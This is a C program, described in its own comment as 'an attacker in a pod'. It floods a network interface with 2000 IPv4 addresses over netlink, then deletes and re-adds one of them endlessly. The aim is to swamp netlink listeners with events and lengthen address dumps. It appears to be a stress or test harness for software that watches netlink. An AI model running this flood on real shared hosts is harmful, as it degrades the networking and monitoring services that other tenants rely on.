/*
 * An attacker in a pod: gives an interface thousands of addresses, then removes and adds one of
 * them as fast as it can, until it is killed. Whoever listens gets an event each time, and whoever
 * asks for the addresses a long answer.
 *
 * arguments: the interface's index, and a number below 256 that makes the addresses this process's
 */
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

enum { ADDRESSES = 2000 };

struct request {
  struct nlmsghdr header;
  struct ifaddrmsg message;
  struct rtattr attribute;
  uint32_t address;
};

static void change(int fd, uint16_t type, uint32_t index, uint32_t address) {
  const struct request request = {
      {sizeof request, type, NLM_F_REQUEST | NLM_F_CREATE, 1, 0},
      {.ifa_family = AF_INET, .ifa_prefixlen = 32, .ifa_index = index},
      {sizeof request - offsetof(struct request, attribute), IFA_LOCAL},
      htonl(address)};
  (void)!send(fd, &request, sizeof request, 0);
}

int main(int argument_count, char **arguments) {
  int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  if (argument_count != 3 || fd < 0) return 1;
  uint32_t index = (uint32_t)atoi(arguments[1]);
  uint32_t first = (10u << 24) | ((uint32_t)atoi(arguments[2]) << 16);
  for (uint32_t n = 1; n <= ADDRESSES; n++) change(fd, RTM_NEWADDR, index, first + n);
  printf("ready\n");
  fflush(stdout);
  for (;;) {
    change(fd, RTM_DELADDR, index, first + ADDRESSES);
    change(fd, RTM_NEWADDR, index, first + ADDRESSES);
  }
}
